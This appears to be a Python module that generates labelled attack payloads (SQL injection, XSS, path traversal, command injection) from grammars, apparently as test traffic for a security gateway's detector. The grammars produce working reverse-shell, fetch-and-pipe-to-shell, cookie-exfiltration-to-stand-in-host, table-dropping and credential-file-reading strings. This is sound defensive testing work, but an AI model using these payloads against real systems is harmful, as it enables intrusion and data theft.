"""Attack payloads, one grammar per class: consumes a random generator, produces what an attacker would inject.

The texts are only ever sent to Headrace's own gateway as data about a request; nothing executes them. Attackers
vary case, blanks, comments and encodings, and so do `_disguised` and the grammars' alternatives.
"""

from random import Random
from typing import Final
from urllib.parse import quote

from infra.demo.grammar import Grammar, number, word

SQLI: Final = Grammar(
    {
        "start": ["<prefix><tautology><end>", "<prefix><union><end>", "<prefix><stacked><end>"]
        + ["<prefix><blind><end>", "<prefix><error><end>", "<prefix><tautology><end>", "<prefix><order><end>"],
        "prefix": ["<word><quote>", "<num><quote>", "<quote>", "<num>", "<word><quote>)", "<num>)", "-<num>", "<quote>))"],
        "quote": ["'", "'", "'", '"', "`"],
        "tautology": [" or <equal>", " or <equal>", " and <equal>", "||<equal>", " or not <equal>", " or <word> like <like>"],
        "equal": ["<num>=<num>", "'<word>'='<word>", "1=1", "'1'='1", "<num> between <num> and <num>", "true", "'a'='a'"],
        "like": ["'%'", "'<word>%'", "'%<word>%"],
        "union": [" union select <columns> from <table>", " union all select <columns> from <table>"]
        + [" union all select <nulls>", " union select <nulls>,<column> from <table> where <equal>"],
        "nulls": ["null", "null,null", "null,<nulls>", "<num>,null"],
        "columns": ["<column>", "<column>,<column>", "<column>,<columns>", "concat(<column>,0x3a,<column>)", "*"],
        "column": ["username", "password", "email", "id", "card_number", "version()", "user()", "database()", "table_name"]
        + ["@@version", "<num>", "pwd_hash", "session_token"],
        "table": ["users", "information_schema.tables", "customers", "admin", "accounts", "orders", "mysql.user", "dual"]
        + ["pg_catalog.pg_tables", "sysibm.systables", "sqlite_master", "members"],
        "stacked": ["; drop table <table>", "; delete from <table> where <equal>", "; shutdown", "; exec xp_cmdshell('dir')"]
        + ["; insert into <table> values(<num>,'<word>')", "; update <table> set <column>='<word>' where <equal>"],
        "blind": [" and sleep(<small>)", " and (select count(*) from <table>)><num>", " waitfor delay '0:0:<small>'"]
        + [" or benchmark(<num>,md5(<num>))", " and substring((select <column> from <table> limit 1),<small>,1)='<letter>'"]
        + [" and ascii(substr(<column>,<small>,1))><num>", " or pg_sleep(<small>)", " and if(<equal>,sleep(<small>),0)"]
        + [" rlike (select (case when (<equal>) then <num> else 0x<num> end))", " and exists(select * from <table>)"],
        "error": [" and extractvalue(<num>,concat(0x7e,<column>))", " and updatexml(1,concat(0x7e,(<inner>)),1)"]
        + [" and row(<num>,<num>)>(<inner>)", " procedure analyse(extractvalue(<num>,concat(0x3a,version())),1)"],
        "inner": ["select <column> from <table> limit 1", "select <column> from <table>", "select @@version"],
        "order": [" order by <small>", " group by <column> having <equal>", " limit <small>,1 into outfile '/tmp/<word>'"],
        "end": ["--", "-- ", "#", "", "/*", " -- -", ";--", ""],
    },
    {"num": number(1, 9999), "small": number(1, 9), "word": word(2, 8), "letter": word(1, 1)},
)

XSS: Final = Grammar(
    {
        "start": ["<break><script>", "<break><handler>", "<break><handler>", "<uri>", "<break><script>", "<break><style>"],
        "break": ["", "", '">', "'>", '"/>', "</title>", "</textarea>", "-->"],
        "script": ["{script}<js>{/script}", "{script src=<far>}{/script}", "{script}<js>{/script}", "{svg}{script}<js>{/script}"]
        + ["{script type=text/javascript}<js>;{/script}", "{scr{script}ipt}<js>{/scr{/script}ipt}"],
        "handler": ["{<tag> <event>=<js>}", '{<tag> src=x <event>="<js>"}', "{<tag>/<event>=<js>//", "{<tag> <event>='<js>'}"]
        + ["{<tag> id=<word> tabindex=1 <event>=<js>}{/<tag>}", "{<tag> src=<far> <event>=<js>}"],
        "tag": ["img", "svg", "body", "iframe", "input autofocus", "video", "details open", "audio", "marquee", "div", "a", "math"],
        "event": ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onstart", "onpageshow", "onwheel"],
        "js": ["alert(<arg>)", "confirm(<arg>)", "prompt(<arg>)", "document.location=<far>", "eval(atob('<word>'))"]
        + ["fetch(<far>+document.cookie)", "new image().src=<far>+document.cookie", "alert`<small>`", "top['al'+'ert'](<arg>)"]
        + ["document.write('{img src='+<far>+'}')", "window.onerror=alert;throw <small>", "this.parentnode.innerhtml='<word>'"],
        "arg": ["1", "document.cookie", "'xss'", "document.domain", "string.fromcharcode(88,83,83)", "'<word>'", "/<word>/", "<small>"],
        "far": ["'//<word>.<zone>/<word>.js'", "'http://<word>.<zone>/?c='", "//<word>.<zone>", "'//<word>.<zone>/x'"],
        "zone": ["evil", "example", "test", "io", "xyz", "ru", "biz"],
        "uri": ["javascript:<js>", "javascript://<word>%0a<js>", "data:text/html,{script}<js>{/script}", "jav&#x09;ascript:<js>"]
        + ["{a href=javascript:<js>}<word>{/a}", "{iframe src=javascript:<js>}{/iframe}", "{object data=javascript:<js>}"],
        "style": ["{style}@import<far>;{/style}", "{div style=width:expression(<js>)}", "{link rel=stylesheet href=<far>}"]
        + ["{meta http-equiv=refresh content=0;url=javascript:<js>}", "{base href=javascript:<js>//}"],
    },
    {"small": number(1, 99), "word": word(2, 8)},
)

PATH_TRAVERSAL: Final = Grammar(
    {
        "start": ["<ups><target>", "<ups><target>", "<ups><target><tail>", "<root><target>", "<wrapper><target>", "<word>/<ups><target>"],
        "ups": ["<up><up><up>", "<up><ups>", "<up><up>", "<up><up><up><up><up>", "<up><ups>"],
        "up": ["../", "../", "../", "..\\", "....//", "..;/", "..%2f", "%2e%2e/", "..%c0%af", "%252e%252e%252f", ".././"],
        "root": ["/", "file:///", "c:\\", "/proc/self/root/", "\\\\<word>\\", "file:/c:/"],
        "wrapper": ["php://filter/convert.base64-encode/resource=<ups>", "file://<ups>", "zip://<word>.zip#", "expect://<ups>"],
        "target": ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts"]
        + ["proc/self/environ", "var/log/<daemon>/access.log", "web-inf/web.xml", "inetpub/wwwroot/web.config", "root/.ssh/id_rsa"]
        + ["home/<word>/.bash_history", "var/www/<word>/config.php", ".env", "etc/<daemon>/<daemon>.conf", "app/config/secrets.yml"]
        + ["usr/local/<daemon>/conf/<word>.conf", "proc/<num>/cmdline", "var/lib/<daemon>/<word>.key", ".git/config"],
        "daemon": ["apache2", "nginx", "mysql", "httpd", "tomcat", "redis", "ssh"],
        "tail": ["%00", "%00.jpg", "%00.html", "?", "::$data", ";index.html", "/.", "%00.png"],
    },
    {"num": number(1, 9999), "word": word(3, 8)},
)

CMDI: Final = Grammar(
    {
        "start": ["<lead><sep><blank><command>", "<lead><sep><blank><command><after>", "<lead><sub>", "<lead><sep><blank><command>"],
        "lead": ["<word>", "<num>", "<host>", "<host>", "", "<word>.jpg", "<num>.<num>.<num>.<num>"],
        "host": ["localhost", "<word>.example", "<word>"],
        "sep": [";", "|", "||", "&&", "&", "%0a", "\n", "';", '";', "|&"],
        "blank": [" ", " ", "", "${ifs}", "\t", "+"],
        "sub": ["$(<command>)", "`<command>`", "${<command>}", "<sep>$(<command>)", "{<tool>,<file>}"],
        "command": ["<tool> <file>", "<tool> <file>", "id", "whoami", "uname -a", "ls -la <file>", "ping -c <num> <host>"]
        + ["sleep <small>", "<fetcher> http://<host>/<word>.sh <run>", "nc -e /bin/<shell> <host> <num>", "ps aux", "netstat -an"]
        + ["<shell> -c '<command>'", "<shell> -i >& /dev/tcp/<host>/<num> 0>&1", "echo <word> > <file>", "rm -rf <file>"]
        + ["<script> -e '<code>'", "chmod 777 <file>", "/usr/bin/<tool> <file>", "dir c:\\", "ipconfig /all", "env", "kill -9 <num>"],
        "tool": ["cat", "head", "more", "less", "tac", "nl", "type", "strings", "grep root", "c'a't", "/bin/cat", "tail -n <small>"],
        "file": ["/etc/passwd", "/tmp/<word>", "/etc/hosts", "~/.ssh/id_rsa", "/var/www/<word>", "/etc/shadow", "*", "."],
        "fetcher": ["curl", "wget -q", "wget", "curl -s"],
        "run": ["| <shell>", "-o /tmp/<word>", "&& chmod +x <word>.sh", "| <shell> &"],
        "shell": ["sh", "bash", "zsh", "dash"],
        "script": ["perl", "python", "ruby", "php", "python3"],
        "code": ["print(<num>)", "system(\"id\")", "import os;os.system(\"<word>\")", "exec(\"/bin/<shell>\")"],
        "after": [" #", " &", "; echo <word>", " 2>&1", " | base64", "|<tool>", " > /dev/null", "%00"],
    },
    {"num": number(1, 254), "small": number(1, 30), "word": word(3, 8)},
)

GRAMMARS: Final = {"sqli": SQLI, "xss": XSS, "path-traversal": PATH_TRAVERSAL, "cmdi": CMDI}
"""The attack classes by the name that ground truth gives them."""


def payload(random: Random, label: str) -> str:
    """Return one attack of a class, disguised as attackers do."""
    text = GRAMMARS[label].sentence(random)
    if label == "xss":
        # The grammar writes tags in braces, as angle brackets mark its own names.
        text = text.replace("{", "<").replace("}", ">")
    return _disguised(random, text, label)


def _disguised(random: Random, text: str, label: str) -> str:
    """Vary case, blanks and encoding; most attacks are sent plainly."""
    luck = random.random()
    if luck < 0.12:
        return "".join(c.upper() if random.random() < 0.5 else c for c in text)
    if luck < 0.20:
        return text.upper() if label != "cmdi" else text
    if luck < 0.28 and label == "sqli":
        return text.replace(" ", random.choice(["/**/", "+", "\t", "/*!*/"]))
    if luck < 0.30:
        return quote(text, safe="")
    return text
